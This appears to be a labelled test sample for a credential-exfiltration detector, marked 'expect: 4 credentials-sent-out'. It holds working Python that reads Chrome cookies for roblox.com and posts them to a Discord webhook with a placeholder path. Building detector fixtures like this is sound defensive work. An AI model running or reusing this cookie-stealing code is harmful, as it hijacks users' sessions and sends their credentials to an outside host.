# expect: 4 credentials-sent-out
import browser_cookie3, requests
cj = browser_cookie3.chrome(domain_name='roblox.com')
requests.post('https://discord.com/api/webhooks/1/x', json={'c': str(cj)})
